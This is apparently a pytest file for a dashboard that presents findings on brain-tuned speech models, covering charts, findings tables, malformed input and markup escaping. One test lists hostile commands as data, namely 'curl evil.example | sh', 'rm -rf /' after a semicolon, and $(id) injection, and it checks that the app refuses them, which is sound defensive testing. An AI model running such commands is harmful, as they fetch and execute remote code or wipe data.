"""The Overview's picture from sound to meaning and its table of findings, whatever the run's comparison holds."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import fake_home
import hierarchy_home
import pytest
from conftest import OpenPage, checked, words

from braindash.config import Home

UNESCAPED = re.compile(r"(?<!\\)(<[a-z/]|\[link\]|\*\*bold\*|:smile:|\$x|`code)")


def plain(page: Any) -> str:
    return words(page).replace("\\", "").replace("\u2060", "")


def picture(page: Any) -> dict[str, Any] | None:
    """Return the picture from sound to meaning, the chart with a legend entry for peaks."""
    for chart in page.get("plotly_chart"):
        figure = json.loads(chart.proto.spec)
        if any(t.get("name") == "Peak layer" for t in figure["data"]):
            return dict(figure)
    return None


def labels(page: Any) -> list[str]:
    figure = picture(page)
    assert figure is not None
    return [t.replace("<br>", " ") for t in figure["layout"]["yaxis"]["ticktext"]]


def test_without_a_comparison_the_command_is_shown(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    page = open_page("overview")
    assert f"braindash compare {run_id}" in [c.value for c in page.code]
    assert picture(page) is None
    assert page.metric, "the headline is there all the same"


def test_the_picture_goes_from_sound_to_meaning_to_the_brain(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    hierarchy_home.write(home, run_id, hierarchy_home.document(run_id))
    page = open_page("overview")
    assert labels(page)[:2] == ["Mel spectrum", "MFCCs"]
    assert labels(page)[-3:] == ["Primary auditory", "Early auditory", "Late language"]
    figure = picture(page)
    assert figure is not None
    tuned = next(t for t in figure["data"] if t.get("name") == "Brain-tuned")
    meaning = next(i for i, t in enumerate(tuned["text"]) if "Word meaning<" in t)
    assert tuned["x"][meaning] == pytest.approx(3.5)
    headings = [a["text"] for a in figure["layout"]["annotations"] if a["text"].startswith("<b>")]
    assert [h.split(":")[0].removeprefix("<b>") for h in headings] == [
        "Acoustic", "Phonetic", "Lexical", "Semantic", "Sentence", "Speaker", "Brain",
    ]  # fmt: skip
    assert "no clear peak" in str(figure["layout"]["annotations"]), "the flat task says so"
    said = plain(page)
    assert "Tuning brought the depths of tasks closer to the order from sound to meaning" in said
    assert "rank correlation 0.71 (0.52 to 0.83) before and 0.84 (0.66 to 0.92) after" in said
    assert "a change of +0.13 (95 % CI 0.04 to 0.25, 11 tasks with a clear peak)" in said
    assert "From acoustic to semantic, the next level lies 0.55 layers deeper before tuning and 0.75 after" in said
    assert "depths of brain regions closer to the order from primary auditory to late language is not shown" in said
    helped = {c.value: c.help for c in page.caption if c.help}
    assert "weighted" in helped["Centre of mass"]
    assert "reversed" in helped["Rank correlation"]


@pytest.mark.parametrize(
    ("low", "high", "claim"),
    [
        (0.1, 0.3, "Tuning brought"),
        (-0.3, -0.1, "Tuning moved the depths of tasks away"),
        (-0.1, 0.3, "is not shown"),
        (None, None, "cannot be told"),
    ],
)
def test_the_sentence_claims_what_the_interval_allows(
    home: Home, open_page: OpenPage, low: Any, high: Any, claim: str
) -> None:
    run_id = fake_home.add_done(home)
    data = hierarchy_home.document(run_id)
    data["order_change"] = {"delta": 0.1, "ci_low": low, "ci_high": high}
    hierarchy_home.write(home, run_id, data)
    said = [m.value for m in open_page("overview").markdown if "rank correlation" in m.value]
    assert claim in said[0]


def test_a_run_that_was_never_probed_shows_its_regions(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    hierarchy_home.write(home, run_id, hierarchy_home.document(run_id, probes=False))
    page = open_page("overview")
    assert labels(page) == ["Primary auditory", "Early auditory", "Late language"]
    assert "depths of tasks" not in plain(page)
    assert "the layers were not probed." in plain(page)
    assert f"braindash probe {run_id}" in [c.value for c in page.code]
    assert "rank correlation 0.64 (0.45 to 0.73) before and 0.68" in plain(page)
    without = hierarchy_home.document(run_id, probes=False) | {"region_order": []}
    hierarchy_home.write(home, run_id, without)
    page = open_page("overview")
    assert "rank correlation" not in plain(page)
    assert "Rank correlation" not in [c.value for c in page.caption], "a word that is not used is not explained"


def test_a_study_without_the_named_regions_shows_its_own(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    data = hierarchy_home.document(run_id, probes=False)
    for row in data["regions"]:
        row["roi"] = {"primary_auditory": "cortex", "early_auditory": "AC", "late_language": "Broca"}[row["roi"]]
    hierarchy_home.write(home, run_id, data)
    assert labels(open_page("overview")) == ["AC", "Broca"]


def test_one_line_counts_and_every_finding_has_verdict_and_numbers(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    hierarchy_home.write(home, run_id, hierarchy_home.document(run_id))
    page = open_page("overview")
    said = plain(page)
    assert "3 of 9 findings supported, 1 not, 5 cannot be told here." in said
    badges = [m.value for m in page.markdown if "-badge[" in m.value]
    assert sum("Supported" in b and "check_circle" in b for b in badges) == 3
    assert sum("Not supported" in b and "cancel" in b for b in badges) == 1
    assert sum("Cannot tell here" in b and "help" in b for b in badges) == 4, "one for each command, and one for none"
    assert "+0.021 of the noise ceiling at layer 4 (95 % interval +0.016 to +0.026; n = 1,032 targets)." in said
    assert "95 % interval −0.002 to" in said, "a minus, not a hyphen"
    codes = [c.value for c in page.code]
    assert f"braindash partition {run_id}" in codes
    assert f"braindash tune --config runs/{run_id}/config.yaml --subjects ID" in codes
    assert f"braindash probe {run_id}" in codes
    assert "This study has too few stories to leave out four of five." in said
    assert "To find out" not in said
    tips = {c.value.replace("\\", ""): (c.help or "").replace("\\", "") for c in page.caption}
    assert "above every matched control" in tips["The interval lies above 0."]
    assert [e.label for e in page.expander if "cannot be told" in e.label] == [
        "5 findings cannot be told here: why, and what would tell"
    ]
    (tip,) = {t for said, t in tips.items() if said == "Moussa & Toneva, 2025; Vattikonda et al., 2025"}
    assert "BrainWavLM" in tip
    folded = next(
        t for said, t in tips.items() if said.startswith("Tuned on one subject, the model gains in the others.")
    )
    assert "BrainWavLM" in folded
    assert "Criterion: interval above 0." in folded.replace("\u2060", "")


def test_what_fell_is_one_line_and_a_list(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    data = hierarchy_home.document(run_id)
    hierarchy_home.write(home, run_id, data)
    page = open_page("overview")
    assert "What fell: Speaker (layers 3, 4)." in plain(page)
    (table,) = [t.value for t in page.table if "Kind" in t.value.columns]
    assert list(table.index) == ["Speaker", "Speaker"]
    assert table["Change"].iloc[0] == "−0.060 (−0.090 to −0.030)", "the largest fall first"
    assert table["Layer"].iloc[0] == "4"
    hierarchy_home.write(home, run_id, data | {"forgetting": []})
    assert "Nothing fell: none of 365 differences tested (45 of tasks, 320 of regions) lies below 0" in plain(
        open_page("overview")
    )


@pytest.mark.parametrize("bad", ["", "{", "[]", "null", '"text"', "7"])
def test_a_damaged_comparison_is_a_message_and_the_rest_of_the_page_stays(
    home: Home, open_page: OpenPage, bad: str
) -> None:
    run_id = fake_home.add_done(home)
    hierarchy_home.write(home, run_id, bad)
    page = open_page("overview")
    assert any("cannot be read" in e.value for e in page.error)
    assert any(f"braindash compare {run_id}" in e.value.replace("\\", "") for e in page.error)
    assert page.metric
    assert any(e.label == "Methods" for e in page.expander)


@pytest.mark.parametrize("wrong", [None, {}, [], "text", 7, [None, 7, "x", []], [{}], [{"model": "pretrained"}]])
def test_what_is_no_list_of_rows_holds_none(home: Home, wrong: Any) -> None:
    from braindash.ui.findings_view import MAPPINGS, TABLES, read_file

    run_id = fake_home.add_done(home)
    data = hierarchy_home.document(run_id)
    for key in data:
        hierarchy_home.write(home, run_id, data | {key: wrong})
        found = read_file(str(home.runs / run_id))
        assert found is not None
        assert all(isinstance(row, dict) for table in TABLES for row in found[table])
        assert all(isinstance(found[m], dict) for m in MAPPINGS)
        assert all(isinstance(m, str) for m in found["models"])


@pytest.mark.parametrize(
    "key", ["models", "probes", "regions", "order", "region_order", "forgetting", "findings", "transfer", "reliance"]
)
def test_rows_without_what_they_should_hold_break_nothing(home: Home, open_page: OpenPage, key: str) -> None:
    run_id = fake_home.add_done(home)
    data = hierarchy_home.document(run_id)
    hierarchy_home.write(home, run_id, data | {key: [{}, {"model": "pretrained"}]})
    open_page("overview")


def test_a_comparison_of_nothing_says_so(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    hierarchy_home.write(home, run_id, {"braindash": 1})
    page = open_page("overview")
    assert "no task and no region with a depth" in plain(page)
    assert "lists no findings" in plain(page)


def test_values_of_other_types_are_no_values(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    data = hierarchy_home.document(run_id)
    for row in (
        *data["probes"],
        *data["regions"],
        *data["order"],
        *data["forgetting"],
        *data["findings"],
        *data["transfer"],
        *data["reliance"],
    ):
        for i, key in enumerate(sorted(row)):
            row[key] = row[key] if key in ("model", "subject") else [["list"], {"a": 1}, True, "1e999", None][i % 5]
    hierarchy_home.write(home, run_id, data)
    open_page("overview")


def test_a_newer_comparison_says_so_and_shows_what_is_known(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    data = hierarchy_home.document(run_id) | {"braindash": 2, "more": [1]}
    data["findings"][0]["verdict"] = "contradicted"
    hierarchy_home.write(home, run_id, data)
    page = open_page("overview")
    assert any("newer braindash" in i.value for i in page.info)
    assert picture(page) is not None
    assert "2 of 9 findings supported, 1 not, 6 cannot be told here." in plain(page)


@pytest.mark.parametrize("kind", sorted(fake_home.HOSTILE))
def test_what_an_imported_comparison_says_is_text(home: Home, open_page: OpenPage, kind: str) -> None:
    run_id = fake_home.add_done(home)
    bad = fake_home.HOSTILE[kind]
    data = hierarchy_home.document(run_id)
    for row in (*data["probes"], *data["forgetting"]):
        row["title"] = bad
        row["level"] = bad
    for row in data["findings"]:
        row |= dict.fromkeys(("claim", "look_for", "shows", "why", "source", "command"), bad)
    data["caveats"] = [bad]
    hierarchy_home.write(home, run_id, data)
    page = open_page("overview")
    for element in (*page.markdown, *page.caption, *page.warning, *page.title, *page.subheader):
        assert not UNESCAPED.search(element.value), element.value
        assert not UNESCAPED.search(str(getattr(element, "help", "") or "")), element.help
    figure = picture(page)
    assert figure is not None
    assert "<img" not in json.dumps(figure)


def test_the_headline_and_the_curves_come_first_and_nothing_is_written(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    hierarchy_home.write(home, run_id, hierarchy_home.document(run_id))
    before = snapshot(home.path)
    page = open_page("overview")
    heads = [h.value for h in page.subheader]
    assert heads.index("Prediction by layer and region") < heads.index("From sound to meaning, layer by layer")
    assert heads[0].startswith("Change at the last layer")
    assert snapshot(home.path) == before


def snapshot(folder: Path) -> dict[str, tuple[int, int]]:
    return {str(p): (p.stat().st_mtime_ns, p.stat().st_size) for p in folder.rglob("*") if p.is_file()}


def test_a_changed_comparison_is_read_again(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    data = hierarchy_home.document(run_id)
    hierarchy_home.write(home, run_id, data)
    assert "3 of 9 findings" in plain(open_page("overview"))
    hierarchy_home.write(home, run_id, data | {"findings": data["findings"][1:]})
    assert "2 of 8 findings" in plain(open_page("overview"))


def test_the_files_hold_what_the_page_shows(home: Home, open_page: OpenPage) -> None:
    from braindash.ui import findings_view, hierarchy_view

    run_id = fake_home.add_done(home)
    data = hierarchy_home.document(run_id)
    hierarchy_home.write(home, run_id, data)
    page = open_page("overview")
    assert {b.key for b in page.get("download_button")} >= {
        f"download_{what}_{kind}" for what in ("hierarchy", "findings") for kind in ("png", "svg")
    }
    lines = [(r["claim"], r["shows"] or r["why"], r["verdict"]) for r in data["findings"]]
    svg = findings_view.findings_file(lines, "3 of 9 findings supported", "A caveat.", "svg").decode()
    assert svg.count("✓ Supported") == 3
    assert "5 that cannot be told here" in svg
    assert "3 of 9 findings supported" in svg
    assert "A caveat." in svg
    figures = __import__("braindash.figures", fromlist=["DepthRow"])
    rows = [figures.DepthRow("Mel", "Acoustic", hierarchy_view.depth(data["probes"][0]))]
    svg = hierarchy_view.picture_file(rows, (0, 1, 2, 3, 4), "A sentence.", "A caveat.", "brain_tuned", "svg").decode()
    assert "A sentence." in svg
    assert "A caveat." in svg


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh",
        "braindash runs delete x",
        "braindash probe x; rm -rf /",
        "braindash probe $(id)",
        "braindash probe `id`",
        "braindash probe x && reboot",
        "braindash app --port 1",
        7,
        None,
    ],
)
def test_only_commands_that_are_ours_and_harmless_are_offered(command: Any) -> None:
    from braindash.ui.findings_view import command_of

    assert command_of({"command": command, "why": "" if isinstance(command, str) else "Because."}) == ""
    assert command_of({"command": "braindash probe run-1"}) == "braindash probe run-1"
    assert command_of({"why": "Not yet. To find out: braindash tune --grid recipe=lora,full."}).endswith("lora,full")


def test_gains_in_other_subjects_and_reliance_are_short_tables(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    hierarchy_home.write(home, run_id, hierarchy_home.document(run_id))
    page = open_page("overview")
    (carried,) = [t.value for t in page.table if "Evaluated on" in t.value.columns]
    assert list(carried["Evaluated on"]) == ["sub-01", "sub-02", "sub-03"]
    assert list(carried["Heard in tuning"]) == ["yes", "no", "no"]
    assert carried["Change"].iloc[1] == "+0.040 (0.020 to 0.060)"
    (owed,) = [t.value for t in page.table if "Difference" in t.value.columns]
    assert owed.loc["Sound spectrum", "Pretrained"] == "−0.050 (−0.060 to −0.040)"
    assert owed.loc["Sound spectrum", "Brain-tuned"] == "−0.040"
    assert owed.loc["Sound spectrum", "Difference"] == "+0.010 (0.005 to 0.015)"
    assert owed.loc["Articulation", "Difference"] == "–"
    assert "Late language, layer 4" in plain(page)
    hierarchy_home.write(home, run_id, hierarchy_home.document(run_id) | {"transfer": [], "reliance": []})
    said = plain(open_page("overview"))
    assert "Do gains carry" not in said
    assert "owes to simple features" not in said


def test_what_was_analysed_later_is_said_and_nothing_after_a_copy(home: Home, open_page: OpenPage) -> None:
    run_id = fake_home.add_done(home)
    hierarchy_home.write(home, run_id, hierarchy_home.document(run_id))
    told = "The run was analysed further"
    assert told not in plain(open_page("overview"))
    partition = home.runs / run_id / "partition.json"
    partition.write_text("{}", encoding="utf-8")
    assert told in plain(open_page("overview"))
    partition.unlink()
    records = home.runs / run_id / "records.json"
    written = (home.runs / run_id / "hierarchy.json").stat().st_mtime
    os.utime(records, (written + 5, written + 5))
    assert told not in plain(open_page("overview")), "unpacked in another order"
    os.utime(records, (written + 500, written + 500))
    assert told in plain(open_page("overview"))


@pytest.mark.parametrize("read_only", [False, True])
def test_the_reader_may_have_it_worked_out(
    home: Home, open_page: OpenPage, read_only: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    from braindash.runs import hierarchy

    run_id = fake_home.add_done(home)
    if read_only:  # the superuser of a test may write anywhere

        def refuse(path: Path, document: Any) -> None:
            raise OSError(30, "Read-only file system", str(path))

        monkeypatch.setattr(hierarchy, "write_document", refuse)
    page = open_page("overview")
    checked(page.button(key="work_out_hierarchy").click().run())
    assert "findings" in plain(page)
    assert "cannot be told here" in plain(page)
    assert (home.runs / run_id / "hierarchy.json").exists() is not read_only
    assert hierarchy.HIERARCHY == "hierarchy.json"
